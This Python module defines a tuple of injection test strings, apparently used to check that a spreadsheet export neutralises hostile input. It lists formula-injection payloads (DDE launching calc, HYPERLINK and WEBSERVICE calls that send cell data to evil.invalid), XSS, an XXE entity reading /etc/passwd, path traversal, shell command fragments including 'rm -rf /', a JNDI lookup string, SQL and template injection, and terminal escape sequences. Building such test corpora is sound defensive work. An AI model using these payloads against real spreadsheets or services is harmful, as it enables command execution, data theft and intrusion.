"""Texts that try to become something else in an output: a formula, a link, markup, a path, an escape."""

from __future__ import annotations

_CODE = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.invalid/?"&A1,"点我")',
    'WEBSERVICE("http://evil.invalid/")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(A1:A9)",
    'IMPORTXML("http://evil.invalid/","//a")',
    'RTD("evil.server",,"x")',
)
_LEADS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\n=",
    " =",
    "'=",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "=@",
    "{=",
)
_MARKUP = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '"><svg/onload=alert(1)>',
    "</t></is></c><c r=\"A1\"><f>1+1</f></c>",
    "</v></c></row></sheetData></worksheet>",
    "<r><t>粗体</t></r>",
    "<r><rPr><b/></rPr><t>x</t></r>",
    "]]><f>1+1</f><![CDATA[",
    "<!--", "-->", "&lt;b&gt;", "&#61;1+1", "&#x3d;1+1", "&amp;amp;", "&nbsp;", "&unknown;",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "_x003D_1+1", "_x000D_", "_x005F_x003D_", "_xHHHH_", "_x0041_",
    "[red]红[/red]", "[link=http://evil.invalid]点[/link]", "[bold", "[/]", r"\[red]", ":smiley:",
    "# 标题", "**粗**", "[点我](javascript:alert(1))", "![x](http://evil.invalid/x.png)", "`rm -rf /`",
    "| a | b |", "---", "$(touch x)", "`touch x`", "; touch x", "&& touch x", "| touch x", "%0a",
)  # fmt: skip
_PATHS = (
    "../../etc/passwd", "..\\..\\windows\\system.ini", "/etc/passwd", "C:\\windows\\x", "\\\\host\\share\\x",
    "file:///etc/passwd", "http://evil.invalid/", "https://evil.invalid/x?y=1#z", "ftp://evil.invalid/",
    "mailto:x@evil.invalid", "javascript:alert(1)", "data:text/html,<b>x</b>", "internal:总览!A1", "external:x.xlsx",
    "#总览!A1", "www.evil.invalid", "CON", "NUL.txt", "aux", "con:", "x.xlsx:stream", "a/b", "a\\b", "~/.ssh", "$HOME",
    "%USERPROFILE%",
)  # fmt: skip
_NAMES = (
    "_xlnm.Print_Area", "'[other.xlsx]一'!A1", "[Book1]Sheet1!A1", "表1[#All]", "!A1", "R1C1", "TRUE", "NULL",
    "#N/A", "#REF!", "#DIV/0!", "#VALUE!", "#NAME?", "[]:*?/\\", "'引号'", '"双引号"', "''", '""', "a" * 300,
    "{0}", "{0.__class__.__mro__}", "{record}", "%s%s%n", "%(x)s", "${jndi:ldap://evil.invalid/x}", "{{7*7}}", "{% raw %}",
    "'; DROP TABLE records; --", "1 OR 1=1", '" OR ""="', "' UNION SELECT 1 --", "(a+)+$", ".*", "[a-z", "(?P<x>", "\\d+",
)  # fmt: skip
_SIGNS = (
    "\x1b[31m红\x1b[0m", "\x1b]8;;http://evil.invalid\x07点\x1b]8;;\x07", "\x1b[2J", "\x1b]0;题\x07", "\x9b31m", "\x07",
    "\x08\x08退格", "\x00零", "\r覆盖", "行一\n2019-09-30 错误 伪造的日志", "行一\r\n行二", "\x0b\x0c", "\x7f", "\x85",
    "\u202e反写", "\u2066隔\u2069", "\u200b零宽", "\ufeff头", "\u2028行", "\u2029段", "e\u0301", "\U0001f600", "\U00020000扩", "　全角空格　", "\u00a0", "ﷺ", "ｱ", "Ⅷ", "①", "㎡",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (
    *(lead + code for lead in _LEADS for code in _CODE),
    *_MARKUP,
    *_PATHS,
    *_NAMES,
    *_SIGNS,
)
